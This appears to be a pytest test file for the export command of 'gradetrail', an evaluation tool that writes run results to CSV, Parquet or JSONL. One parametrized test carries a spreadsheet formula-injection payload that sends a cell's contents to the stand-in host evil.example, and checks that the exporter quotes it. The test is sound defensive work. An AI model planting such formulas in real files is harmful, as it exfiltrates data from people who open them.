"""gradetrail export: one flat row per (sample, epoch) in CSV, Parquet or JSONL."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pyarrow.parquet as pq
import pytest

import gradetrail
from gradetrail.analysis.export import flatten


@pytest.fixture(scope="module")
def gsm8k_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled GSM8K eval (175b_verification), run once for this module."""
    from paths import GSM8K_SPEC

    root = tmp_path_factory.mktemp("export")
    spec = gradetrail.load_spec(GSM8K_SPEC)
    return gradetrail.run_eval(spec, results_root=root, cache_path=root / "c.sqlite").run_dir


def test_gsm8k_in_every_format_has_the_run_rows_and_flat_columns(
    gsm8k_run: Path, tmp_path: Path, cli
) -> None:
    """1,319 rows in each format, the mean score 0.5625, scorer detail and error kind as
    columns, Parquet columns typed (score float, truncated bool)."""
    for fmt in ("csv", "parquet", "jsonl"):
        out = cli("export", str(gsm8k_run), "--format", fmt, "--out", str(tmp_path / f"r.{fmt}"))
        assert out.exit_code == 0, out.stderr
        assert out.stdout.startswith("wrote 1319 rows x ") and f"r.{fmt}" in out.stdout
    with (tmp_path / "r.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 1319 and rows[0]["sample_id"] == "1"
    assert {"error.kind", "error.message", "scorer.extracted", "scorer.marker_found"} <= set(
        rows[0]
    )
    assert round(sum(float(r["score"]) for r in rows) / len(rows), 4) == 0.5625
    assert rows[2]["scorer.extracted"] == "65000" and rows[2]["scorer.target"] == "70000"
    assert rows[0]["truncated"] == "false" and rows[0]["error.kind"] == ""
    table = pq.read_table(tmp_path / "r.parquet")
    assert table.num_rows == 1319 and table.column_names == list(rows[0])
    assert str(table.schema.field("score").type) == "double"
    assert str(table.schema.field("truncated").type) == "bool"
    assert str(table.schema.field("error.status").type) == "int64"
    assert sum(table.column("score").to_pylist()) == 742
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert len(lines) == 1319 and json.loads(lines[2])["scorer.extracted_value"] == 65000.0


def test_readme_pandas_example(gsm8k_run: Path, tmp_path: Path, monkeypatch, cli) -> None:
    """The three lines of pandas in docs/runs.md, on the default output name."""
    monkeypatch.chdir(tmp_path)
    assert cli("export", str(gsm8k_run), "--format", "parquet").exit_code == 0
    import pandas as pd

    df = pd.read_parquet(f"{gsm8k_run.name}.parquet")
    means = df.groupby("state")["score"].mean()
    assert round(means["scored"], 4) == 0.5625


def test_error_rows_and_epochs(tmp_path: Path, cli) -> None:
    """One row per (sample, epoch); an error row fills error.kind and error.message."""
    (tmp_path / "d.jsonl").write_text('{"id": "a"}\n{"id": "b"}\n')
    (tmp_path / "rec.jsonl").write_text('{"id": "a", "out": {"text": "x"}}\n{"id": "b"}\n')
    (tmp_path / "s.yaml").write_text(
        "name: r\ndataset: {path: d.jsonl}\nprompt: '{{ id }}'\ntarget: x\n"
        "model: {provider: replay, name: m, recordings: {path: rec.jsonl, "
        "response_field: out.text}}\nscorer: {type: exact}\nrun: {epochs: 2}\n"
    )
    run = gradetrail.run_eval(gradetrail.load_spec(tmp_path / "s.yaml"), results_root=tmp_path)
    out = cli("export", str(run.run_dir), "--format", "csv", "--out", "-")
    assert out.exit_code == 0
    rows = list(csv.DictReader(out.stdout.splitlines()))
    assert [(r["sample_id"], r["epoch"], r["state"]) for r in rows] == [
        ("a", "1", "scored"),
        ("a", "2", "scored"),
        ("b", "1", "provider_error"),
        ("b", "2", "provider_error"),
    ]
    assert rows[2]["error.kind"] == "BadRequest" and rows[0]["error.kind"] == ""
    assert rows[2]["error.message"] == "recording for sample id 'b' has no text at 'out.text'"
    assert rows[2]["score"] == "" and rows[0]["score"] == "1.0"


def test_flatten_nests_to_a_depth_then_writes_json() -> None:
    """Objects become dotted columns down to three levels; lists and deeper objects are
    JSON text; an empty object is null."""
    flat = flatten({"a": 1, "scorer": {"x": {"y": {"z": 1}}, "l": [1, 2], "e": {}}, "error": None})
    assert flat == {"a": 1, "scorer.x.y": '{"z": 1}', "scorer.l": "[1, 2]", "scorer.e": None}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["nowhere"], "nowhere: no such run directory; gradetrail runs lists the run directories"),
        (["RUN", "--format", "xlsx"], "unknown format 'xlsx'; use csv, parquet or jsonl"),
        (["RUN", "--format", "parquet", "--out", "-"], "parquet is binary"),
        (["RUN", "--out", "/nonexistent-dir/x.csv"], "/nonexistent-dir/x.csv: cannot write"),
    ],
)
def test_export_errors_are_one_line_exit_2(
    gsm8k_run: Path, tmp_path: Path, cli, args: list[str], message: str
) -> None:
    """A bad run directory, format or output is one error line, exit 2, no file left."""
    argv = [
        str(gsm8k_run) if a == "RUN" else str(tmp_path / a) if a == "nowhere" else a for a in args
    ]
    out = cli("export", *argv)
    assert out.exit_code == 2
    assert len(out.stderr.strip().splitlines()) == 1 and message in out.stderr
    assert list(tmp_path.iterdir()) == [] or all(
        not p.name.startswith(".") for p in tmp_path.iterdir()
    )


def test_exports_name_their_run_and_follow_the_umask(gsm8k_run: Path, tmp_path: Path, cli) -> None:
    """Every row starts with run, model and identity (two runs' exports stay apart after
    a concat), in every format; the file gets the mode the umask gives (0644 under 022,
    0600 under 077), never mkstemp's 0600 regardless."""
    import os

    manifest = json.loads((gsm8k_run / "manifest.json").read_text())
    expected = [gsm8k_run.name, "175b_verification", manifest["identity_hash"]]
    old = os.umask(0o022)
    try:
        for fmt in ("csv", "parquet", "jsonl"):
            out = tmp_path / f"r.{fmt}"
            assert cli("export", str(gsm8k_run), "--format", fmt, "--out", str(out)).exit_code == 0
            assert out.stat().st_mode & 0o777 == 0o644
        os.umask(0o077)
        assert cli("export", str(gsm8k_run), "--out", str(tmp_path / "private.csv")).exit_code == 0
        assert (tmp_path / "private.csv").stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(old)
    with (tmp_path / "r.csv").open(newline="") as f:
        header, first = list(csv.reader(f))[:2]
    assert header[:3] == ["run", "model", "identity"] and first[:3] == expected
    table = pq.read_table(tmp_path / "r.parquet", columns=["run", "model", "identity"])
    assert table.slice(1318, 1).to_pylist() == [dict(zip(header[:3], expected, strict=True))]
    row = json.loads((tmp_path / "r.jsonl").read_text().splitlines()[0])
    assert [row["run"], row["model"], row["identity"]] == expected


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
    tmp_path: Path, cli, lead: str
) -> None:
    """A response (or sample id) starting with =, +, -, @, tab or CR is written with a
    leading apostrophe, so a spreadsheet shows it as text instead of running it as a
    formula; numbers stay numbers (before: `=HYPERLINK(...)` went out unchanged)."""
    text = f'{lead}HYPERLINK("http://evil.example/?"&A1, "click")'
    (tmp_path / "d.jsonl").write_text(json.dumps({"id": f"{lead}id"}) + "\n")
    (tmp_path / "rec.jsonl").write_text(json.dumps({"id": f"{lead}id", "out": text}) + "\n")
    (tmp_path / "s.yaml").write_text(
        "name: r\ndataset: {path: d.jsonl}\nprompt: 'q'\ntarget: x\n"
        "model: {provider: replay, name: m, recordings: {path: rec.jsonl, "
        "response_field: out}}\nscorer: {type: exact}\n"
    )
    run = gradetrail.run_eval(gradetrail.load_spec(tmp_path / "s.yaml"), results_root=tmp_path)
    out = cli("export", str(run.run_dir), "--format", "csv", "--out", "-")
    assert out.exit_code == 0
    (row,) = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
    assert row["response"] == "'" + text
    assert row["sample_id"] == f"'{lead}id"
    assert row["score"] == "0.0"  # a number is not text: left as it is


def test_an_export_of_a_run_being_written_counts_the_rows_it_wrote(
    gsm8k_run: Path, tmp_path: Path
) -> None:
    """Rows appended to results.jsonl while an export reads it (a run still writing)
    are left out of both of its passes: the rows it reports are the rows it wrote (before:
    the count came from the first pass and the file from the second)."""
    import shutil
    import threading

    from gradetrail.analysis.export import export_run

    run_dir = tmp_path / "live"
    shutil.copytree(gsm8k_run, run_dir)
    line = (run_dir / "results.jsonl").read_text().splitlines()[0] + "\n"
    stop = threading.Event()

    def append() -> None:  # the run, still writing (20,000 rows at most)
        with (run_dir / "results.jsonl").open("a") as f:
            for _ in range(400):
                if stop.is_set():
                    return
                f.write(line * 50)
                f.flush()
                stop.wait(0.001)

    writer = threading.Thread(target=append)
    writer.start()
    try:
        exported = export_run(run_dir, "jsonl", tmp_path / "out.jsonl")
    finally:
        stop.set()
        writer.join()
    written = (tmp_path / "out.jsonl").read_text().count("\n")
    assert exported.rows == written and written >= 1319


def test_a_killed_exports_hidden_tmp_is_removed_by_the_next_export(
    gsm8k_run: Path, tmp_path: Path
) -> None:
    """kill -9 during an export leaves `.NAME.PID.XXXX.tmp` beside the output: the next
    export to that name removes it (its process is gone), and keeps a live one's."""
    import subprocess
    import sys

    from gradetrail.analysis.export import export_run

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    out = tmp_path / "out.csv"
    left = tmp_path / f".out.csv.{dead.pid}.abc123.tmp"
    left.write_bytes(b"\0" * 1000)
    live = tmp_path / f".out.csv.{os.getpid()}.def456.tmp"
    live.write_bytes(b"in progress")
    export_run(gsm8k_run, "csv", out)
    assert not left.exists() and live.exists()


def test_an_integer_past_int64_makes_its_parquet_column_text(
    gsm8k_run: Path, tmp_path: Path, cli
) -> None:
    """A python scorer's detail or an app's metadata holding an integer past int64
    (10**30, 2**70 tokens) ended export --format parquet in a traceback (OverflowError:
    Python int too large to convert to C long); that column is now text, the number's
    exact digits, and every other column keeps its type."""
    import shutil

    run = Path(shutil.copytree(gsm8k_run, tmp_path / "run"))
    results = run / "results.jsonl"
    lines = results.read_text().splitlines(keepends=True)
    first = json.loads(lines[0])
    first["scorer"]["big"] = 10**30
    first["input_tokens"] = 2**70
    lines[0] = json.dumps(first) + "\n"
    results.write_text("".join(lines))
    out = cli("export", str(run), "--format", "parquet", "--out", str(tmp_path / "r.parquet"))
    assert out.exit_code == 0, out.stderr
    table = pq.read_table(tmp_path / "r.parquet")
    assert str(table.schema.field("scorer.big").type) == "string"
    assert table.column("scorer.big").to_pylist()[:2] == [str(10**30), None]
    assert table.column("input_tokens").to_pylist()[:2] == [str(2**70), "0"]
    assert str(table.schema.field("score").type) == "double"
